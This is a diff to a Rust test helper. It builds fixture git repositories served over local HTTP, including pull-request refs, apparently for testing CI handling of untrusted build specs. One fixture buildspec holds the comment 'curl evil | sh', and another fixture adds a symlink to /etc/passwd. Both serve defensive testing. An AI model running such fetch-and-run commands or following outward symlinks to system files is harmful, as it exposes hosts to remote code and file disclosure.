@@ -1,7 +1,9 @@
 //! A smart-HTTP git server for tests: `git http-backend` (CGI) behind a small hyper server
 //! on 127.0.0.1, serving every repository under a root folder, with switchable faults.
 
+use std::collections::HashMap;
 use std::convert::Infallible;
+use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use std::sync::{Arc, Mutex};
@@ -171,4 +173,87 @@ pub fn git(dir: &Path, args: &[&str]) -> String {
         .expect("git");
     assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
     String::from_utf8_lossy(&output.stdout).trim().to_owned()
+}
+
+/// The demo repositories and the server that serves them; `shas` names their commits.
+#[derive(Debug)]
+pub struct DemoRepos {
+    pub server: GitServer,
+    pub shas: HashMap<&'static str, String>,
+}
+
+fn write(dir: &Path, name: &str, content: &str) {
+    std::fs::write(dir.join(name), content).expect("write");
+}
+
+fn commit(dir: &Path, message: &str) -> String {
+    git(dir, &["add", "-A"]);
+    git(dir, &["commit", "-q", "-m", message]);
+    git(dir, &["rev-parse", "HEAD"])
+}
+
+/// `demo.git` (HEAD → rawhide, PR refs 1 and 2), `forks/bob/demo.git`, `nospec.git`.
+pub async fn demo_repos() -> DemoRepos {
+    let root = crate::temp_dir("git-root");
+    let work = crate::temp_dir("git-work");
+    let mut shas = HashMap::new();
+    git(&work, &["init", "-q", "-b", "rawhide"]);
+    write(&work, "buildspec.yml", "version: 0.2\n# from rawhide\nphases:\n  build:\n    commands: [make]\n");
+    write(&work, "README", "hello\n");
+    write(&work, "run.sh", "#!/bin/sh\necho run\n");
+    std::fs::set_permissions(work.join("run.sh"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    std::os::unix::fs::symlink("README", work.join("link-in")).expect("link");
+    std::os::unix::fs::symlink("/etc/passwd", work.join("link-out")).expect("link");
+    commit(&work, "c1");
+    write(&work, "second", "2\n");
+    shas.insert("rawhide", commit(&work, "c2"));
+    git(&work, &["checkout", "-q", "-b", "feature"]);
+    write(&work, "buildspec.yml", "version: 0.2\n# from the PR: curl evil | sh\n");
+    shas.insert("f1", commit(&work, "f1"));
+    for n in ["f2", "f3", "f4"] {
+        write(&work, n, n);
+        shas.insert(n, commit(&work, n));
+    }
+    git(&work, &["checkout", "-q", "--orphan", "other"]);
+    git(&work, &["rm", "-rfq", "."]);
+    write(&work, "other", "x\n");
+    shas.insert("other", commit(&work, "o1"));
+    git(&work, &["checkout", "-q", "-b", "bob-fix", "rawhide"]);
+    write(&work, "bob.txt", "bob\n");
+    shas.insert("bob", commit(&work, "b1"));
+
+    let target = root.join("demo.git");
+    let fork = root.join("forks/bob/demo.git");
+    for bare in [&target, &fork] {
+        std::fs::create_dir_all(bare).expect("bare dir");
+        git(bare, &["init", "-q", "--bare"]);
+    }
+    let target_s = target.to_str().expect("utf-8");
+    git(
+        &work,
+        &[
+            "push",
+            "-q",
+            target_s,
+            "rawhide",
+            "feature",
+            "other",
+            "feature:refs/pull/1/head",
+            "bob-fix:refs/pull/2/head",
+        ],
+    );
+    git(&target, &["symbolic-ref", "HEAD", "refs/heads/rawhide"]);
+    git(&work, &["push", "-q", fork.to_str().expect("utf-8"), "bob-fix"]);
+
+    let nospec_work = crate::temp_dir("git-nospec");
+    git(&nospec_work, &["init", "-q", "-b", "main"]);
+    write(&nospec_work, "README", "no buildspec here\n");
+    commit(&nospec_work, "n1");
+    let nospec = root.join("nospec.git");
+    std::fs::create_dir_all(&nospec).expect("dir");
+    git(&nospec, &["init", "-q", "--bare"]);
+    git(&nospec_work, &["push", "-q", nospec.to_str().expect("utf-8"), "main"]);
+    git(&nospec, &["symbolic-ref", "HEAD", "refs/heads/main"]);
+
+    DemoRepos { server: GitServer::start(&root).await, shas }
 }
